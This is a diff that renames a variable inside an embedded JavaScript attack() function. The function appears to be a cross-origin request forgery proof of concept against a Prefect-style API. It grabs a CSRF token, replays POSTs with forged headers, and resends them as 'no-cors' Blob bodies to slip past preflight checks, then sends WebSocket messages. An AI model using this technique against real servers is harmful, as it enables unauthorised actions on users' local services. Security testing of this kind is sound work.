@@ -31,21 +31,21 @@ function socket(url, message) {
 }
 
 async function attack(api, requests, sockets) {
-  const said = [];
+  const answers = [];
   const token = await ask(`${api}/csrf-token?client=page`);
-  said.push(token);
+  answers.push(token);
   const found = token.match(/"token":"(\\w+)"/);
   const own = {"content-type": "application/json", "Prefect-Csrf-Client": "page"};
   if (found) own["Prefect-Csrf-Token"] = found[1];
   for (const [path, body] of requests) {
     const options = body === null ? {} : {method: "POST", body: JSON.stringify(body)};
-    said.push(await ask(api + path, body === null ? {} : {...options, headers: own}));
+    answers.push(await ask(api + path, body === null ? {} : {...options, headers: own}));
     // Without a type the server takes it for JSON, and the browser asks nobody before it sends it.
-    said.push(await ask(api + path, {...options, mode: "no-cors", body: options.body && new Blob([options.body])}));
+    answers.push(await ask(api + path, {...options, mode: "no-cors", body: options.body && new Blob([options.body])}));
   }
   for (const [path, message] of sockets)
-    said.push(await socket(api.replace("http", "ws") + path, JSON.stringify(message)));
-  return said;
+    answers.push(await socket(api.replace("http", "ws") + path, JSON.stringify(message)));
+  return answers;
 }
 </script>"""
 
